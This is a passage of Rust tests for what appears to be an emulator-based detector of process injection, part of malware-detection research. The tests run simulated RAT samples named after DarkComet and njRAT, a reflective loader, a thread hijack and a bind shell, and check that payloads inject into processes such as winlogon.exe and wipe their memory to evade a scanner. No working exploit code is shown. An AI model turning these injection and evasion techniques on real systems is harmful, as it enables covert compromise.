        assert!(log.starts_with(b"the quick brown fox"));
    }

    #[test]
    fn rats_inject_into_their_hosts() {
        for (sample, victim, needle) in [
            (darkcomet_rat(), "explorer.exe", "DarkComet"),
            (njrat_rat(), "winlogon.exe", "Njrat"),
        ] {
            let machine = run_sample(&sample);
            let victim_proc = machine.process_by_name(victim).unwrap();
            let line = machine
                .console()
                .iter()
                .find(|(_, s)| s.contains(needle))
                .unwrap_or_else(|| panic!("{needle} payload must announce"));
            assert_eq!(line.0, victim_proc.pid);
        }
    }

    #[test]
    fn transient_attack_wipes_payload_memory() {
        let machine = run_sample(&transient_reflective());
        let lines: Vec<&str> = machine.console().iter().map(|(_, s)| s.as_str()).collect();
        assert!(lines.contains(&"transient stage"), "payload ran");
        // The payload body at PAYLOAD_BASE in the victim is zeroed.
        let notepad = machine.process_by_name("notepad.exe").unwrap();
        let entry = notepad.aspace.entry(PAYLOAD_BASE).expect("still mapped");
        let phys = entry.pfn * faros_emu::mem::PAGE_SIZE;
        let head = machine.mem.slice(phys, 64).unwrap();
        assert!(
            head.iter().all(|&b| b == 0),
            "payload prologue must be wiped for the snapshot scanner"
        );
    }

    #[test]
    fn thread_hijack_diverts_the_victim_main_thread() {
        let machine = run_sample(&thread_hijack());
        let lines: Vec<&str> = machine.console().iter().map(|(_, s)| s.as_str()).collect();
        assert!(lines.contains(&"hijacked thread"), "{lines:?}");
        let victim = machine.process_by_name("svchost.exe").unwrap();
        let hijack_line = machine
            .console()
            .iter()
            .find(|(_, s)| s.contains("hijacked"))
            .unwrap();
        assert_eq!(hijack_line.0, victim.pid, "stage runs on the victim's own thread");
        assert!(!victim.is_alive(), "thread exit takes the hijacked victim down");
    }

    #[test]
    fn bindshell_rat_accepts_and_injects() {
        let machine = run_sample(&bindshell_rat());
        let lines: Vec<&str> = machine.console().iter().map(|(_, s)| s.as_str()).collect();
        assert!(lines.contains(&"bind-shell stage"), "{lines:?}");
        let victim = machine.process_by_name("spoolsv.exe").unwrap();
        let line = machine
            .console()
            .iter()
            .find(|(_, s)| s.contains("bind-shell"))
            .unwrap();
        assert_eq!(line.0, victim.pid);
    }

    #[test]
    fn paper_sample_set_has_six_entries() {
        assert_eq!(paper_samples().len(), 6);
        assert_eq!(all_injecting_samples().len(), 9);
        for s in paper_samples() {
            assert!(s.category.should_flag());
        }
    }
}
